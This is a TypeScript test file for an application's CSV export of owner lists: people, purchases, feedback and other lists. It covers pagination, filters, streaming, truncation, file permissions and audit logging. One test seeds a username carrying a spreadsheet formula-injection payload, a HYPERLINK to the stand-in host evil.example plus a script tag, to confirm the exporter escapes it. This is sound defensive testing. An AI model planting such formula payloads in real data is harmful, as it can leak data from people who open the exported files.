import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { csvParse, csvParseRows } from 'd3-dsv';
import { desc, eq, inArray, sql } from 'drizzle-orm';
import { expect, test } from 'vitest';
import { booksCsv } from '#features/checkout/desk/books-csv.server.ts';
import { discountsCsv } from '#features/checkout/desk/discounts-csv.server.ts';
import { disputesCsv } from '#features/checkout/desk/disputes/disputes-csv.server.ts';
import { peopleCsv } from '#features/checkout/desk/people-csv.server.ts';
import { purchasesCsv } from '#features/checkout/desk/purchases-csv.server.ts';
import { feedbackCsv } from '#features/feedback/desk/feedback-csv.server.ts';
import { feedback } from '#features/feedback/feedback.table.server.ts';
import type { DeskCsv } from '#features/owner/lists/desk-csv.ts';
import { exportDeskCsv } from '#features/owner/lists/export-desk-csv.server.ts';
import { ownerActionLog } from '#features/owner/owner-action.table.server.ts';
import { users } from '#features/users/user.table.server.ts';
import { database } from '#platform/postgres/database.server.ts';
import { createTestUser } from '#tests/support/accounts/create-test-user.ts';
import { buy } from '#tests/support/payments/ledger.ts';
import { deliver, makeEvent } from '#tests/support/payments/payment-events.ts';
import { csv } from './csv.ts';

/* The lists of the desk as files. That each is in the order of its page, sorted-lists.test.ts shows. */
const { userId: ownerId } = await createTestUser({ username: 'Olga Owner' });
const take = (csv: DeskCsv, search = '') => exportDeskCsv({ csv, search: new URLSearchParams(search), ownerId });
const read = async (csv: DeskCsv, search = '') => csvParse(await text(await take(csv, search)));

/** Plants accounts whose names have a part that nobody else's has. */
async function seedPeople(count: number): Promise<string> {
  const part = randomUUID();
  await database.execute(sql`insert into users (id, email, username, created)
    select ${part} || n, ${part} || n || '@account.invalid', ${part} || ' ' || n, now() - n * interval '1 second' from generate_series(1, ${count}::int) n`);
  return part;
}

test('a file holds all pages of the list, and what is filtered and looked for as its page does', async () => {
  const part = await seedPeople(2100);
  const people = await read(peopleCsv, `q=${part}&after=${part}5`);
  expect(people.map(({ Account }) => Account)).toEqual(Array.from({ length: 2100 }, (_, count) => part + (count + 1)));
  const [kept, refunded] = [await buy(), await buy()];
  await deliver(makeEvent('refund.created', refunded.refund()));
  const ofState = async (state: string) => (await read(purchasesCsv, `state=${state}`)).map(({ Account }) => Account);
  expect([await ofState('stands'), await ofState('refunded')]).toEqual([[kept.userId], [refunded.userId]]);
  expect([...(await read(purchasesCsv, `q=${refunded.userId}`))]).toMatchObject([
    { What: 'The course', Amount: '239', 'Sent back': '239', Currency: 'USD', State: 'Refunded' },
  ]);
});

test('feedback is taken as its page lists it, with all that was written', async () => {
  const { userId } = await createTestUser({ username: 'Ada Sample' });
  const words = `${'Why is the second line red? '.repeat(20)}The end.`;
  const make = (lessonId: string, count: number) => ({
    ...{ parentUserId: userId, version: count, type: 'question' as const, reviewContent: { user_content: `${count} ${words}` } },
    ...{ place: { lessonId }, created: new Date(Date.UTC(2025, 0, count)) },
  });
  await database.insert(feedback).values([make('one', 1), make('one', 2), make('other', 3)]);
  const written = async (search: string) => (await read(feedbackCsv, search)).map((row) => row['What was written']);
  expect(await written('lesson=one')).toEqual([`1 ${words}`, `2 ${words}`]);
  expect(await written('state=all&kind=question')).toEqual([`3 ${words}`, `2 ${words}`, `1 ${words}`]);
  expect(await written('kind=review')).toEqual([]);
});

test('a list of nothing is its headings', async () => {
  expect(await text(await take(peopleCsv, 'q=nobody-is-called-so'))).toBe('Name,E-mail,Course,Disabled,Tags,Since,Account');
  expect(await text(await take(disputesCsv))).toMatch(/^Opened,[^\n]*$/);
  expect(await text(await take(discountsCsv, 'state=ended'))).toMatch(/^Code,[^\n]*$/);
});

test('rows that vanish, move or come while a file is read change nothing in it', async () => {
  const part = await seedPeople(5000);
  const file = await take(peopleCsv, `q=${part}&sort=name`);
  const reader = file.getReader();
  const parts = [(await reader.read()).value];
  const names = Array.from({ length: 5000 }, (_, count) => `${part} ${count + 1}`).sort();
  const borders = [1000, 2000, 3000, 4000].map((count) => names[count - 1] ?? '');
  await database.delete(users).where(inArray(users.username, borders));
  await database
    .update(users)
    .set({ username: `${part} 0` })
    .where(eq(users.username, names[4500] ?? ''));
  await database
    .update(users)
    .set({ username: `${part} 99999` })
    .where(eq(users.username, names[0] ?? ''));
  for (let next = await reader.read(); !next.done; next = await reader.read()) parts.push(next.value);
  const rows = csvParse(Buffer.concat(parts as Uint8Array[]).toString());
  expect(rows.map(({ Name }) => Name)).toEqual(names);
});

test('a file that its reader leaves lets the database go', async () => {
  const part = await seedPeople(5000);
  const reader = (await take(peopleCsv, `q=${part}`)).getReader();
  await reader.read();
  const isOpen = async () => {
    const rows = await database.execute(
      sql`select from pg_stat_activity where datname = current_database() and state = 'idle in transaction'`,
    );
    return rows.length > 0;
  };
  await expect.poll(isOpen).toBe(true);
  await reader.cancel();
  await expect.poll(isOpen).toBe(false);
});

test('a file that fails breaks off rather than ends', async () => {
  const failing: DeskCsv = {
    describe: () => '/owner/people',
    write: async function* write() {
      yield 'Name\nAda';
      throw new Error('The database has gone');
    },
  };
  await expect(text(await take(failing))).rejects.toThrow('The database has gone');
});

test('a list that is longer than a file says so in its last line', async () => {
  const part = await seedPeople(7);
  const write = async (mostRows: number) =>
    csvParseRows(await text(peopleCsv.write({ search: new URLSearchParams({ q: part }), reader: database, mostRows })));
  expect(await write(7)).toHaveLength(8);
  const rows = await write(5);
  expect(rows).toHaveLength(7);
  expect(rows.at(-1)).toEqual(['The list goes on: a file holds 5 rows. Cut the list down by a search or a state.']);
});

test('a command writes each list to a file that only its owner reads, and never over another', async () => {
  const folder = mkdtempSync(path.join(tmpdir(), 'lists-'));
  const part = await seedPeople(3);
  const file = path.join(folder, 'found.csv');
  expect((await csv([`people?q=${part}&sort=-name`, `--file=${file}`])).lines).toEqual([file]);
  expect(csvParse(readFileSync(file, 'utf8')).map(({ Name }) => Name)).toEqual([`${part} 3`, `${part} 2`, `${part} 1`]);
  expect(statSync(file).mode & 0o777).toBe(0o600);
  await expect(csv(['people', `--file=${file}`])).rejects.toThrow('is there already');
  for (const list of ['purchases', 'disputes', 'certificates', 'discounts', 'feedback']) {
    expect((await csv([list, `--file=${path.join(folder, list)}`])).isWell, list).toBe(true);
  }
  for (const args of [[], ['constructor'], ['/owner/people']]) await expect(csv(args)).rejects.toThrow('which list?');
  const [entry] = await database.select().from(ownerActionLog).orderBy(desc(ownerActionLog.created)).limit(1);
  expect(entry).toMatchObject({ ownerId: null, action: 'list-taken', rowId: '/owner/feedback' });
  rmSync(folder, { recursive: true });
});

test('no name is a formula to a spreadsheet', async () => {
  const part = randomUUID();
  await createTestUser({ username: `=HYPERLINK("https://evil.example?${part}","x");=1+1\n<script>` });
  const [row] = await read(peopleCsv, `q=${part}`);
  expect(row?.Name).toBe(`'=HYPERLINK("https://evil.example?${part}","x");'=1+1\n<script>`);
});

test('the log says which list was taken, by whom, how sorted and cut down, and not what was looked for', async () => {
  await text(await take(purchasesCsv, 'q=ada@example.com&state=refunded&sort=amount&after=x&more=y'));
  await text(await take(feedbackCsv, 'state=all&kind=review&before=x'));
  await text(await take(booksCsv, 'month=2026-11'));
  const entries = await database.select().from(ownerActionLog).orderBy(desc(ownerActionLog.created)).limit(3);
  const taken = { ownerId, action: 'list-taken', userId: null };
  expect(entries.map(({ id: _, created: __, ...entry }) => entry)).toEqual([
    { ...taken, rowId: '/owner/books.csv?month=2026-11', reason: 'As a file' },
    { ...taken, rowId: '/owner/feedback?state=all&kind=review', reason: 'As a file' },
    { ...taken, rowId: '/owner/purchases?state=refunded&sort=amount', reason: 'As a file: what a search found' },
  ]);
});
